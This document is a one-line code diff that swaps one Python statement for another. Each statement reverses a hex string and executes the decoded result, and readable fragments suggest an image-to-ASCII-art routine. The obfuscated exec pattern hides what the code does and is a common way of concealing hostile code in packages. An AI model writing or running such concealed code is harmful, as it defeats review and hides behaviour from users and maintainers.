@@ -1 +1 @@
-_ = lambda __ : bytes.fromhex(__[::-1]);exec((_)( "472716f5969636371602e6275747562702020202a002020202a037371607020202020202020202020202a0a3e6f696470756368754024707563687560202020202020202a092a5f502c20313f58236568756020202020202020202020202a09222365687562202c222e3f676564737c32202c293f58256c69607d6f63602d3020313f5020202020202020202020202a092225627f6e676962202c22283d266475722825646f6365646e29283f5823737562707d6f6365646e2a7f502d30293f5020202020202020202020202a09273f502c233f58235f502d30283f5020202020202020202020202a0929233f582e656c602c263f582e4f502d30273f5020202020202020202020202a09213f58294f502d30263f5020202020202020202020202a0a39727470202020202020202a0a333f502669602020202a0a037371607020202020202020202020202a0a3e6f696470756368754024707563687560202020202020202a092a5f502c292225627f6e676962202c22283d266475722825646f6365646e223f58236568756020202020202020202020202a0a39727470202020202020202a0a323f502669602020202a0a0d513b5921302c222030387c52226824796c60737e253f502d30233f5020202020202020202020202a0a39222030387c55646f636970722268286479677374727164737e253f50246e616022247854596222602d3d30243f5026696c6560202020202020202a0d513b5921302c222030387c52226824796c60737e253f502d30223f5020202020202020202020202a0a39222030387c54616f6c697160722268286479677374727164737e253f50246e616022247855447222602d3d30243f50266960202020202020202a0a39213f58224f502e6960253f502c243f50227f66602020202a056e6f6e402c256e6f6e402d30233f502c223f502020202a0a002020202a002020202a0e627574756270202020202020202a0a3e6f6964707563687540247075636875602020202a0e62757475627020202020202020202020202a0a39214f58286479677374727164737e213f50247f6e60266960202020202020202a0928246165627e203f502d30213f5020202020202020202020202a0a303f5023716029253d34757f656d6964702c295f582e65607f6c62757e257f502864796770202020202020202a09295f582c62757f5d6f62766e2472714969636371402d302472716f596963637160202020202020202a0a397274702020202a0a3924736964602a3a5f502c227473702a395f5824616f6c602665646a0a0929255f502c245f5820796a702e6960275f502c265f50227f6660275f502e50265f582375647972602e6275747562702020202a0a3375647972602e3d20292375647972602a355f502c2375647972602a345f58235f502665646a0a092d505f5a3b515f582375647972602e6275747562702020202a01302d3b20225f50202020202020202a09282473756769646e29292227696262202c283823756479726f5f647e225f502b202f4f582635323168637e286f502d3b20215f50202020202020202a0a305f502c3029215f582e656c60256c696867702020202a00302c2928297162727165647972602d30225f502c215f502020202a0a3375647972602e3d2029247e69602a305f502c2375647972602a3f4f582e4f502665646a0a09282473756769646e2b4f502e6275747562702020202a092d4f582564716460757e2b4f5020202020202020202020202a0a32245144494222602d3d302c4f50266960202020202020202a0a392a4f58224f502e69602d4f502c2c4f50227f66602020202a09282635323168637e286f502d302b4f502020202a0a3375647972602e3d20292375647972602a3a4f58294f502665646a0a064f502b202231302d3b20244f50202020202020202a084f502c274f50246c65696970202020202020202a0d564f5b283b244f5a383b244f5b534f502d30284f50202020202020202a0d583b244f5a343b244f5b534f502d30274f50202020202020202a092227696262202c2d543b244f5a344f5b534f5823756479726f5d6f62766e247e69602d30264f50202020202020202a0a354f502d3c302231302b20244f50256c696867702020202a09234f582e656c602c28302d30254f502c244f502020202a09214f58286479677374727164737e234f50247275637371602020202a0a392375647972602a334f58224f502665646a0a022e6c5161387c5e6c527c574e405938387c5222602d30214f5a0a04727149696363714024727f607d6960236967616d6f5969636371602d6f62766a057f50237160247375657175627e22696c6c6275702c2a7f5023716022696c6a702c286f5023716022696c686371686024727f607d696" ));
+_ = lambda __ : bytes.fromhex(__[::-1]);exec((_)( "a056e6f6e402e627574756270202020202020202a0a3e6f6964707563687540247075636875602020202a092c6275782c62757f5d6f62766e2472714969636371402e627574756270202020202020202a04727149696363714024727f607d6960236967616d6f5969636371602d6f627660202020202020202a0a397274702020202a0222222e256c62616c696166716e6570237960247960266960256e6f6e40227f602c247271496963637140237160247960237e627574756270246e61602567616d696022756e6e616260256864702374616f6c6e677f64422222202020202a0a39227473702a3c62757824616f6c602665646" ));